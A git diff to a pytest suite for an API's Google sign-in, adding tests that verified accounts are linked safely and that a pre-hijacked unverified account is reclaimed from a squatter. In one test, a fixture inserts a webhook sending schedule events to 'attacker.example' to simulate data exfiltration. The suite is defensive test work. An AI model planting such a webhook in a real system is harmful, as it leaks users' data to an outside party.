@@ -13,7 +13,7 @@ import pytest_asyncio
 from sqlalchemy import text
 from sqlalchemy.engine import URL, Engine
 
-from tests.api.helpers import API, register, running_app, unique_email
+from tests.api.helpers import API, PASSWORD, register, running_app, unique_email, verify_email
 from tests.api.jwks_server import Jwks, SigningKey, jwks_server
 
 CLIENT_ID = "spotter-web-client"
@@ -47,6 +47,8 @@ async def test_first_sign_in_creates_the_user_with_google_id(
     response = await _sign_in(google_client, jwks.mint(sub="sub-new", email=email))
     assert response.status_code == 200, response.text
     assert response.json()["user"]["email"] == email
+    # Google said the address is theirs.
+    assert response.json()["user"]["emailVerifiedAt"] is not None
     with owner_engine.connect() as db:
         google_id = db.execute(
             text("SELECT google_id FROM users WHERE email = :e"), {"e": email}
@@ -60,15 +62,71 @@ async def test_an_existing_account_with_that_verified_email_gets_linked(
     google_client: httpx.AsyncClient, jwks: Jwks, owner_engine: Engine
 ) -> None:
     account = await register(google_client, "trainer")
+    await verify_email(google_client, account)
     response = await _sign_in(google_client, jwks.mint(sub="sub-link", email=account.email))
     assert response.status_code == 200
     assert response.json()["user"]["id"] == str(account.id)
     assert response.json()["user"]["role"] == "trainer"
     with owner_engine.connect() as db:
-        google_id = db.execute(
-            text("SELECT google_id FROM users WHERE id = :u"), {"u": account.id}
+        row = db.execute(
+            text("SELECT google_id, password_hash FROM users WHERE id = :u"), {"u": account.id}
+        ).one()
+    assert row.google_id == "sub-link"
+    # Linked as it was: the owner's password and other sign-ins stay.
+    assert row.password_hash is not None
+    assert (await google_client.get(f"{API}/me", headers=account.headers)).status_code == 200
+
+
+async def test_an_unverified_account_with_that_email_is_taken_over(
+    google_client: httpx.AsyncClient, jwks: Jwks, owner_engine: Engine
+) -> None:
+    # Someone registered the address before its owner (account pre-hijacking),
+    # and set up a webhook and a calendar feed to keep reading its data.
+    squatter = await register(google_client)
+    feed = await google_client.post(f"{API}/schedules/calendar-token", headers=squatter.headers)
+    assert feed.status_code in (200, 201), feed.text
+    with owner_engine.begin() as db:
+        assert db.execute(
+            text("SELECT ical_token_hash IS NOT NULL FROM users WHERE id = :u"), {"u": squatter.id}
         ).scalar_one()
-    assert google_id == "sub-link"
+        db.execute(
+            text(
+                "INSERT INTO webhooks (user_id, url, events, secret)"
+                " VALUES (:u, 'https://attacker.example/hook', '{schedule.created}', 's')"
+            ),
+            {"u": squatter.id},
+        )
+    owner = await _sign_in(google_client, jwks.mint(sub="sub-owner", email=squatter.email))
+    assert owner.status_code == 200, owner.text
+    assert owner.json()["user"]["id"] == str(squatter.id)
+    assert owner.json()["user"]["emailVerifiedAt"] is not None
+    # The squatter's password, sessions, webhook and feed are gone.
+    password = await google_client.post(
+        f"{API}/auth/login", json={"email": squatter.email, "password": PASSWORD}
+    )
+    assert password.status_code == 401
+    assert (await google_client.get(f"{API}/me", headers=squatter.headers)).status_code == 401
+    refresh = await google_client.post(
+        f"{API}/auth/refresh", json={"refreshToken": squatter.refresh_token}
+    )
+    assert refresh.status_code == 401
+    with owner_engine.connect() as db:
+        row = db.execute(
+            text(
+                "SELECT password_hash, ical_token_hash,"
+                " (SELECT count(*) FROM webhooks WHERE user_id = u.id) AS hooks,"
+                " (SELECT count(*) FROM audit_logs a WHERE a.user_id = u.id"
+                "   AND a.action = 'GOOGLE_TAKEOVER') AS takeovers"
+                " FROM users u WHERE u.id = :u"
+            ),
+            {"u": squatter.id},
+        ).one()
+    assert (row.password_hash, row.ical_token_hash, row.hooks, row.takeovers) == (None, None, 0, 1)
+    # The owner's own Google sign-in works.
+    me = await google_client.get(
+        f"{API}/me", headers={"Authorization": f"Bearer {owner.json()['accessToken']}"}
+    )
+    assert me.status_code == 200
 
 
 async def test_a_rotated_google_key_is_fetched_on_its_unknown_kid(
